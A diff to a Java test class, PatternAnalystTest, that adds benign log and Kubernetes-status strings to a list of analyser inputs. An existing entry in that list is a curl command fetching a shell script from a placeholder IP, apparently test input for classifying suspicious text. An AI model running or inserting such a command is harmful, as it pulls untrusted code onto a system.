@@ -119,6 +119,13 @@ class PatternAnalystTest {
                 "certificate renewed until 2027",
                 "curl -s http://198.51.100.7/x.sh",
                 "disk usage is 40 %",
+                "log_level is set, cart_url required by nobody",
+                "dependency x not found in cache, will pull it",
+                "GET /cart/42: item not found, resolve by id",
+                "Pod shop/cart-1 of cluster shop: Running\ncontainer app: running, ready, restarted once\n"
+                        + "  its last run ended with exit code 137, Error (signal 9)\n  liveness check: GET /healthz",
+                "No pod of the current revision 5 is missing",
+                "container app: uses 50 to 75 % of its limit of 256Mi memory",
                 "{\"tool\": \"serai-inspect/1\", \"entropy\": 4.2, \"layers\": [], \"findings\": []}",
                 "{\"outcome\":\"succeeded\",\"reason\":\"ANSWERED\",\"status\":200}"
             })
